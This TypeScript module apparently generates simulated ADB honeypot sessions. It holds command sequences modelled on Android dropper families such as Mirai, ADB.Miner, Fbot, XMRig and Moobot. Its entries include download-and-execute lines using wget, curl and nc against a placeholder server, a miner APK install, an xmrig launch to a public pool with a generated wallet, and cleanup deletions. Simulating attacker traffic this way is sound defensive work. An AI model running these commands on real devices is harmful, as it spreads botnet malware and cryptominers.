import { hex, int, pick } from './random.ts';
import type { Rng } from './types.ts';

/**
 * Command sequences of known Android Debug Bridge droppers, as an ADB honeypot records them: the
 * destination string of each OPEN message ("shell:..."). `p` is the session's download server.
 */
export interface AdbScript {
  family: string;
  weight: number;
  commands(rng: Rng, p: string): string[];
}

const BASE58 = '123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz';

/** A Monero-shaped wallet (95 chars, starting with 4): the miner's only per-campaign parameter. */
function moneroWallet(rng: Rng): string {
  let s = '4';
  for (let i = 1; i < 95; i++) s += BASE58[Math.floor(rng() * BASE58.length)];
  return s;
}

const RECON = [
  'shell:getprop ro.product.model',
  'shell:getprop ro.product.cpu.abi',
  'shell:uname -a',
  'shell:cat /proc/cpuinfo',
  'shell:id',
];

export const ADB_SCRIPTS: readonly AdbScript[] = [
  {
    // Mirai-variant shell dropper: try every downloader the device might have, then clean up.
    family: 'mirai-adb',
    weight: 10,
    commands: (_rng, p) => [
      `shell:echo -e '\\x61\\x6e\\x64\\x72\\x6f\\x69\\x64'`,
      `shell:cd /data/local/tmp/; busybox wget http://${p}/w.sh; sh w.sh; curl http://${p}/c.sh; sh c.sh; wget http://${p}/wget.sh; sh ` +
        `wget.sh; busybox wget http://${p}/wget.sh; sh wget.sh; busybox curl http://${p}/wget.sh; sh wget.sh; rm -rf w.sh c.sh wget.sh`,
    ],
  },
  {
    // ADB.Miner / Trinity: install the com.ufo.miner APK and start it.
    family: 'adb-miner',
    weight: 6,
    commands: () => [
      'shell:getprop ro.product.cpu.abi',
      'shell:pm path com.ufo.miner',
      'shell:cd /data/local/tmp; ls',
      'shell:chmod 777 /data/local/tmp/nohup',
      'shell:pm install /data/local/tmp/ufo.apk',
      'shell:am start -n com.ufo.miner/com.example.test.MainActivity',
      'shell:/data/local/tmp/nohup /data/local/tmp/bot.dat',
      'shell:ps | grep trinity',
      'shell:rm -rf /data/local/tmp/ufo.apk',
    ],
  },
  {
    family: 'fbot',
    weight: 4,
    commands: (rng, p) => [
      'shell:getprop ro.product.model',
      'shell:cat /proc/cpuinfo',
      `shell:cd /data/local/tmp; busybox wget http://${p}/fbot.arm7 -O fbot; chmod 777 fbot; ./fbot ` +
        `adb.${pick(rng, ['arm7', 'arm', 'x86'])}`,
      'shell:rm -rf /data/local/tmp/fbot',
    ],
  },
  {
    family: 'xmrig-dropper',
    weight: 4,
    commands: (rng, p) => [
      ...RECON.slice(0, int(rng, 2, RECON.length)),
      `shell:cd /data/local/tmp && curl -O http://${p}/xmrig && chmod 777 xmrig`,
      `shell:cd /data/local/tmp && nohup ./xmrig -o pool.supportxmr.com:443 -u ${moneroWallet(rng)} -k --tls -B > /dev/null 2>&1 &`,
      'shell:ps | grep xmrig',
    ],
  },
  {
    // Careful operators first check the device is writable and not already infected.
    family: 'recon-writable',
    weight: 6,
    commands: (rng) => {
      const mark = `/data/local/tmp/.${hex(rng, 6)}`;
      return [...RECON, `shell:echo ${hex(rng, 8)} > ${mark}`, `shell:cat ${mark}`, `shell:rm ${mark}`, 'shell:ls -la /data/local/tmp'];
    },
  },
  {
    family: 'moobot-nc',
    weight: 3,
    commands: (rng, p) => [
      'shell:cd /data/local/tmp; toybox',
      `shell:cd /data/local/tmp; toybox nc ${p} ${pick(rng, [4444, 1337, 5555, 9999])} > .a; chmod 777 .a; ./.a android.adb; rm -rf .a`,
      'shell:rm -rf /data/local/tmp/*',
    ],
  },
];
